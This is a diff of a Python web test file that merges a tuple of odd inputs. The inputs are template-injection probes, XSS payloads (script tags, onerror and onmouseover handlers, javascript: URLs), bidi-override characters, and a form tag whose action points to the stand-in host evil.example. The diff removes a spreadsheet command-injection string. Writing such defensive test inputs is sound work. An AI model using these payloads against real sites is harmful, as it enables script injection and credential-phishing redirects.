@@ -12,14 +12,10 @@ from tests.kit.web_site import Served
 from tests.kit.whole_site import PLACE, WholeSite, cookies, whole
 
 ODD = (
-    "{{7*7}}{% raw %}${7*7}#{7*7}",
-    "</title><script>alert(1)</script>",
-    '" onmouseover=alert(1) x=\'"><img src=x onerror=alert(1)>',
-    "\u202eesrever\u2066\u200f",
+    "{{7*7}}{% raw %}${7*7}#{7*7}</title><script>alert(1)</script>",
+    '" onmouseover=alert(1) x=\'"><img src=x onerror=alert(1)>\u202eesrever\u2066\u200f',
     "漢" * 64,
-    "form-0123456789abcdef</bdi><form action=//evil.example>",
-    "=cmd|'/C calc'!A0",
-    "javascript:alert(1)//",
+    "javascript:alert(1)//</bdi><form action=//evil.example>",
 )
 
 
